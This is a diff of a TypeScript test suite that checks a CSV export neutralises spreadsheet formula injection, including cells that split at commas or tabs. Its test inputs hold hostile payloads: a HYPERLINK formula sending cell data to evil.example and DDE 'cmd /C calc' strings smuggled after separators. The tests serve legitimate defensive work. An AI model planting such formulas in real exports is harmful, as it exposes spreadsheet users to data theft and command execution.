@@ -23,6 +23,14 @@ function cells(text: string): string[][] {
   return rows.filter((row) => row.length > 0);
 }
 
+/** The cells as a spreadsheet reads them that splits at commas, as in English: a quote in the middle of a cell is a sign like any other. */
+function cellsAtCommas(text: string): string[] {
+  const form = /(?:"((?:[^"]|"")*)"|)([^,\r\n]*)(?:,|\r\n|\r|\n|$)/g;
+  return [...text.slice(1).matchAll(form)].map(
+    ([, quoted = '', rest = '']) => quoted.replaceAll('""', '"') + rest,
+  );
+}
+
 const cellOf = async (changes: Partial<Quote>, column: string) => {
   const [names = [], values = []] = cells(await csv(aQuote(changes)));
   return values[names.indexOf(column)];
@@ -58,7 +66,6 @@ it.each([
   '@SUM(A1)',
   '=HYPERLINK("http://evil.example?x="&A1;"click")',
   "  =cmd|' /C calc'!A0",
-  '\t=1+1',
   '\u00A0=1',
   '＝1+1',
 ])('keeps %j a text in every spreadsheet', async (text) => {
@@ -66,7 +73,25 @@ it.each([
     expect(await cellOf({ [column]: text }, column)).toBe(`'${text}`);
 });
 
+it.each([
+  "ciao,=cmd|' /C calc'!A0,",
+  "ciao\n=cmd|' /C calc'!A0",
+  "ciao\r\n\t=cmd|' /C calc'!A0",
+  'ciao\r+1',
+  'due,  -2+3',
+  'due,"=1+1"',
+  '"\n"@SUM(A1)',
+  'ciao\t=1+1',
+  '\t=1+1',
+])('keeps %j a text also in a spreadsheet that splits at commas or tabs', async (text) => {
+  const read = await csv(aQuote({ specialRequests: text, notes: text }));
+  const formulas = [read, read.replaceAll(',', ' ').replaceAll('\t', ',')]
+    .flatMap(cellsAtCommas)
+    .filter((cell) => /^\s*[=+@-]/.test(cell));
+  expect(formulas).toEqual([]);
+});
+
 it('leaves ordinary texts as they are', async () => {
-  for (const text of ['Greta', 'a=b', '3 notti', 'x-y', "d'Angelo"])
-    expect(await cellOf({ firstName: text }, 'firstName')).toBe(text);
+  for (const text of ['Greta', 'a=b', '3 notti', 'x-y', "d'Angelo", 'due bici, due caschi\nun cane'])
+    expect(await cellOf({ specialRequests: text }, 'specialRequests')).toBe(text);
 });
